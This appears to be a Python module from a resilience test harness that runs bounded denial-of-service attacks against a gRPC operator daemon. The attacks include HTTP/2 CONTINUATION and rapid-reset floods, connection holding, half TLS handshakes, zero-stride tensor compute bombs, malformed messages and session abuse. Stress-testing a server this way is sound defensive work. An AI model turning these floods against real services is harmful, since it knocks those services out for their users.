"""The attacks of attack.py: each a function that sends hostile bytes or requests to a daemon.

An attack runs in a process of its own, for a bounded time and with a bounded count of bytes or requests. It gets a
Target and returns a text for the table ("64 connections ended"). `listeners` names the kinds of sockets it is tried on.
"""

import dataclasses
import itertools
import os
import socket
import struct
import threading
import time
from collections.abc import Callable

import grpc
import raw_peer
from opserve import _frame, _wire

EXECUTE = "/opserve.v1.OperatorService/Execute"
EXECUTE_STREAM = "/opserve.v1.OperatorService/ExecuteStream"
SESSION = "/opserve.v1.OperatorService/Session"
UPLOAD = "/opserve.v1.TensorService/Upload"
WATCH = "/grpc.health.v1.Health/Watch"
HUGE_WINDOW = (1 << 31) - 1


@dataclasses.dataclass(frozen=True)
class Target:
    """The daemon under attack, and the bounds of the attack."""

    address: raw_peer.Address
    metrics_port: int
    token: str  # of the tenant that attacks
    seconds: float
    connections: int
    most_bytes: int

    def channel(self):
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_receive_message_length", -1),
                   ("grpc.max_send_message_length", -1)]
        if not self.address.ca_file:
            return grpc.insecure_channel(self.address.target, options)
        with open(self.address.ca_file, "rb") as file:
            return grpc.secure_channel(self.address.target, grpc.ssl_channel_credentials(file.read()), options)

    @property
    def metadata(self):
        return [("authorization", f"Bearer {self.token}")]


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    run: Callable[[Target], str]
    listeners: tuple[str, ...] = ("unix",)
    # The prober makes a connection for each call, because the attack is on connections.
    fresh_connections: bool = False
    # It holds what others need: it lasts longer than a call of the prober may take.
    holds: bool = False
    # The most by which resident memory may grow. What a tenant may take is more than what a stranger may: the
    # daemon's pools (results 512 MiB, answers under keys 64 MiB) and messages of 64 MiB, which it keeps for others.
    most_growth_mib: int = 128
    # The same bytes can go to a socket that discards them, which gives the prober's latency to compare with.
    is_flood: bool = False

    @property
    def is_strangers(self):
        """It needs no credentials, so no memory may stay with it."""
        return self.is_flood or self.fresh_connections


def _flood(target, chunks, **options):
    flood = raw_peer.Flood(target.address, chunks, target.connections, **options)
    try:
        flood.run(target.seconds, target.most_bytes)
        return f"{flood.sent >> 20} MiB sent, {flood.ended} connections ended, {flood.refused} refused"
    finally:
        flood.close()


def _streams():
    return itertools.count(1, 2)


def continuation_flood(target):
    """A header block without an end."""
    piece = raw_peer.frame(raw_peer.CONTINUATION, 0, 1, _filler(16000)) * 4

    def chunks(_):
        yield raw_peer.settings() + raw_peer.frame(
            raw_peer.HEADERS, 0, 1, raw_peer.header_block(EXECUTE))
        yield from itertools.repeat(piece)

    return _flood(target, chunks)


def _filler(size):
    """Literal header fields of about `size` bytes."""
    field = b"\0\x05x-pad\x78" + b"a" * 120
    return field * (size // len(field))


def rapid_reset(target):
    """Streams that are reset as soon as they have begun."""

    def chunks(_):
        yield raw_peer.settings()
        for first in itertools.count(1, 64):
            yield b"".join(
                raw_peer.call(stream, EXECUTE) + raw_peer.frame(raw_peer.RST_STREAM, 0, stream, b"\0\0\0\x08")
                for stream in range(first, first + 64, 2))

    return _flood(target, chunks)


def open_streams(path, body=b""):
    def run(target):
        """As many streams as a connection may have, and then some."""

        def chunks(_):
            yield raw_peer.settings()
            for stream in itertools.islice(_streams(), 400):
                yield raw_peer.call(stream, path) + (raw_peer.message(stream, body) if path == WATCH else b"")

        return _flood(target, chunks)

    return run


def hang_ups(first_bytes):
    """Connections that hang up before they have done enough to be ended, with others in their place."""

    def run(target):
        return _flood(target, lambda _: iter([first_bytes]), hangs_up=True)

    return run


CALLS_OF_ONE_CONNECTION = raw_peer.settings() + b"".join(
    raw_peer.call(stream, EXECUTE) for stream in range(1, 240, 2))


def pings(target):
    frames = raw_peer.frame(raw_peer.PING, 0, 0, b"attacker") * 1000

    def chunks(_):
        yield raw_peer.settings()
        yield from itertools.repeat(frames)

    return _flood(target, chunks, reads=False)


def empty_frames(target):
    """DATA frames without data, and SETTINGS without settings."""
    frames = raw_peer.frame(raw_peer.DATA, 0, 1) * 500 + raw_peer.frame(raw_peer.SETTINGS, 0, 0) * 500

    def chunks(_):
        yield raw_peer.settings() + raw_peer.call(1, EXECUTE)
        yield from itertools.repeat(frames)

    return _flood(target, chunks)


def _hold(target, make, count):
    """Keeps `count` connections open until the time is over; `make` gives one."""
    end = time.monotonic() + target.seconds
    held = []
    refused = 0
    try:
        for _ in range(count):
            try:
                held.append(make())
            except OSError:
                refused += 1
        ended = 0
        while held and time.monotonic() < end:
            held[-1].settimeout(0.2)
            try:
                ended += held[-1].recv(4096) == b""
            except OSError:
                pass
        return f"{len(held)} connections, {refused} refused"
    finally:
        for one in held:
            one.close()


def silent_connections(target):
    return _hold(target, lambda: target.address.connect(handshake=False), 1100)


def silent_storm(target):
    """As many silent connections as are let in; those that are ended are replaced."""
    many = dataclasses.replace(target, connections=20 * target.connections)
    return _flood(many, lambda _: iter([b"PRI"]))


def half_handshakes(target):
    """The first bytes of a TLS handshake."""

    def make():
        connection = target.address.connect(handshake=False)
        connection.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc")
        return connection

    return _hold(target, make, 1100)


def half_metrics_requests(target):
    def make():
        connection = socket.create_connection(("127.0.0.1", target.metrics_port), timeout=5)
        connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-")
        return connection

    return _hold(target, make, 295)


def _tensor(message, shape, strides=(), offset=0, payload=0):
    message.dtype = 1
    message.shape.extend(shape)
    message.strides.extend(strides)
    message.offset = offset
    message.payload = payload


def _kl_div_backward(shape, strides, offset=0, operator="KlDivBackward", gradients=1):
    """A request for the gradient at one element, where `target` is a view of one element or of none."""
    request = _wire.ExecuteRequest()
    invocation = request.invocations.add(operator=operator)
    _tensor(invocation.inputs.add(name="grad_output").tensor, [gradients])
    _tensor(invocation.inputs.add(name="self").tensor, [1], payload=1)
    _tensor(invocation.inputs.add(name="target").tensor, shape, strides, offset, payload=2)
    request.results.add(invocation=0)
    return _frame.join(request, [bytes(4 * gradients), bytes(4), bytes(0 if 0 in shape else 4)])


def _send(target, requests, path=EXECUTE, timeout=None):
    """Sends the requests side by side as the tenant that attacks; returns how many ended with each code."""
    codes = {}
    with target.channel() as channel:
        call = channel.unary_unary(path)
        futures = [call.future(request, metadata=target.metadata, timeout=timeout or target.seconds)
                   for request in requests]
        for future in futures:
            code = future.code().name
            codes[code] = codes.get(code, 0) + 1
    return ", ".join(f"{count} {code}" for code, count in sorted(codes.items()))


def compute_bombs(target):
    """2^40 elements by strides of zero; 64 KiB of gradients allow the workspace that their sum needs."""
    return _send(target, [_kl_div_backward([1 << 26, 1 << 14], [0, 0], gradients=1 << 14)] * 14)


def offsets_of_empty_tensors(target):
    return _send(target, [_kl_div_backward([0], [1], offset=1 << 61)] * 50)


def malformed_messages(target):
    """Messages whose first field ends behind their end, to methods of each service."""
    body = b"\x0a\xff\xff\xff\xff\x0f" + bytes(64)
    paths = (EXECUTE, _wire.LIST_OPERATORS, _wire.GET_SERVER_STATUS, _wire.RENEW, _wire.RELEASE,
             "/inference.GRPCInferenceService/ModelInfer", "/inference.GRPCInferenceService/ModelReady")
    return "; ".join(f"{path.rpartition('/')[2]}: {_send(target, [body] * 20, path)}" for path in paths)


def long_names(target):
    """Names of operators of 50 MB, which end in the log."""
    end = time.monotonic() + target.seconds
    codes = {}
    request = _kl_div_backward([16], [1], operator="x" * 50_000_000)
    for _ in range(max(2, target.most_bytes // len(request))):
        if time.monotonic() > end:
            break
        code = _send(target, [request], timeout=20)
        codes[code] = codes.get(code, 0) + 1
    return ", ".join(f"{count} times {code}" for code, count in codes.items())


def idempotency_keys(target):
    """Answers of 1 MiB under keys of their own, then many small ones."""
    invocation = _wire.ExecuteRequest()
    one = invocation.invocations.add(operator="L1LossBackward")
    for name in ("grad_output", "self", "target"):
        _tensor(one.inputs.add(name=name).tensor, [0])
    invocation.results.add(invocation=0)

    def request(number, elements):
        for tensor in one.inputs:
            tensor.tensor.shape[:] = [elements]
        invocation.idempotency_key = f"attack-{os.getpid()}-{elements}-{number}"
        return _frame.join(invocation, [bytes(4 * elements)])

    return "; ".join(_send(target, [request(number, elements) for number in range(count)], timeout=60)
                     for count, elements in ((96, 1 << 18), (300, 1 << 12), (500, 16)))


def upload_headers(target):
    """Uploads that announce 1 GiB each and send nothing."""
    header = _wire.UploadRequest()
    header.header.dtype = 1
    header.header.shape.append(1 << 28)
    header.header.chunk_bytes = 1 << 20
    body = header.SerializeToString()

    def chunks(_):
        yield raw_peer.settings(HUGE_WINDOW)
        for stream in itertools.islice(_streams(), 8):
            yield raw_peer.call(stream, UPLOAD, target.token) + raw_peer.message(stream, body, end_stream=False)

    return _flood(target, chunks)


def results_that_stay(target):
    """Results of 1 MiB for readers whose window is zero."""
    request = _wire.ExecuteRequest()
    invocation = request.invocations.add(operator="L1LossBackward")
    _tensor(invocation.inputs.add(name="grad_output").tensor, [1 << 9, 1 << 9], [0, 1])
    _tensor(invocation.inputs.add(name="self").tensor, [1 << 9, 1 << 9], [0, 1])
    _tensor(invocation.inputs.add(name="target").tensor, [1 << 9, 1 << 9], [0, 1])
    request.results.add(invocation=0)
    body = _frame.join(request, [bytes(2048)])

    def chunks(_):
        yield raw_peer.settings(0)
        for stream in itertools.islice(_streams(), 100):
            yield raw_peer.call(stream, EXECUTE, target.token) + raw_peer.message(stream, body)

    return _flood(target, chunks)


_SessionMessage = _wire._message("SessionMessage")
_HELLO = (1, 0, b"\x08\x01")
_MOST_FRAMES = 4096  # of a message of a session
_WINDOW = 64  # requests of a message, about as many as may be without an answer


def _session_message(frames):
    """The message of a session (proto/SESSION.md) that has the frames: kind, number, body."""
    parts = [struct.pack("<IBBHQ", len(body), kind, 0, 0, number) + body for kind, number, body in frames]
    return _SessionMessage(frames=b"".join(parts)).SerializeToString()


def _session_requests(body, count):
    """Messages of `count` requests each, whose numbers rise for ever."""
    for first in itertools.count(1, count):
        yield _session_message((2, number, bytes(12) + body) for number in range(first, first + count))


def session_pings():
    return itertools.repeat(_session_message([(6, 1, b"")] * _MOST_FRAMES))


def session_cancels():
    return itertools.repeat(_session_message([(5, 1, b"")] * _MOST_FRAMES))


def session_messages_without_frames():
    return itertools.repeat(_session_message([]))


def session_refusals():
    return _session_requests(b"", 1)


def session_results():
    """Requests whose results have 1 MiB."""
    request = _wire.ExecuteRequest()
    invocation = request.invocations.add(operator="L1LossBackward")
    for name in ("grad_output", "self", "target"):
        _tensor(invocation.inputs.add(name=name).tensor, [1 << 9, 1 << 9], [0, 1])
    return _session_requests(_frame.join(request, [bytes(2048)]), _WINDOW)


def lying_sessions(*kinds, reads=False):
    """Sessions with messages of these kinds, side by side, that send as fast as they are let."""

    def run(target):
        end = time.monotonic() + target.seconds
        sent = [0] * target.connections

        def messages(number):
            yield _session_message([_HELLO])
            for message in kinds[number % len(kinds)]():
                if time.monotonic() > end:
                    return
                sent[number] += 1
                yield message

        channels = [target.channel() for _ in range(target.connections)]
        calls = [channel.stream_stream(SESSION)(messages(number), metadata=target.metadata)
                 for number, channel in enumerate(channels)]
        readers = [threading.Thread(target=_read_to_the_end, args=(call,)) for call in calls if reads]
        for reader in readers:
            reader.start()
        time.sleep(target.seconds)
        for call in calls:
            call.cancel()
        for reader in readers:
            reader.join(timeout=30)
        for channel in channels:
            channel.close()
        return f"{sum(sent)} messages sent"

    return run


def _read_to_the_end(call):
    try:
        for _ in call:
            pass
    except grpc.RpcError:
        pass


ATTACKS = [
    Attack("header block without end", continuation_flood, ("unix", "tcp", "tls"), is_flood=True),
    Attack("rapid resets", rapid_reset, ("unix", "tcp", "tls"), is_flood=True),
    Attack("health watchers", open_streams(WATCH), ("unix", "tcp", "tls"), is_flood=True),
    Attack("calls without credentials", open_streams(EXECUTE), ("unix", "tcp", "tls"), is_flood=True),
    Attack("calls that hang up", hang_ups(CALLS_OF_ONE_CONNECTION), ("unix", "tcp", "tls"), is_flood=True),
    Attack("connections that hang up", hang_ups(raw_peer.settings()), ("unix", "tcp", "tls"), is_flood=True),
    Attack("connections of another protocol", hang_ups(b"GET / HTTP/1.1\r\n\r\n"), ("unix", "tcp", "tls"), is_flood=True),
    Attack("pings", pings, ("unix", "tcp"), is_flood=True),
    Attack("empty frames", empty_frames, ("unix", "tcp"), is_flood=True),
    Attack("ever new silent connections", silent_storm, ("unix", "tcp"), is_flood=True),
    Attack("silent connections", silent_connections, ("unix", "tcp"), fresh_connections=True),
    Attack("half TLS handshakes", half_handshakes, ("tls",), fresh_connections=True),
    Attack("half requests for metrics", half_metrics_requests, ("tcp",)),
    Attack("compute bombs", compute_bombs, holds=True),
    Attack("offsets of empty tensors", offsets_of_empty_tensors),
    Attack("malformed messages", malformed_messages),
    Attack("names of 50 MB", long_names, most_growth_mib=256),
    Attack("sessions that read nothing", lying_sessions(
        session_pings, session_cancels, session_messages_without_frames, session_refusals), most_growth_mib=96),
    Attack("sessions that read", lying_sessions(session_pings, session_cancels, session_refusals, reads=True),
           most_growth_mib=96),
    Attack("results of sessions that stay", lying_sessions(session_results), most_growth_mib=576),
    Attack("idempotency keys", idempotency_keys, most_growth_mib=160),
    Attack("uploads that stop", upload_headers, holds=True),
    Attack("results that stay", results_that_stay, holds=True, most_growth_mib=576),
]
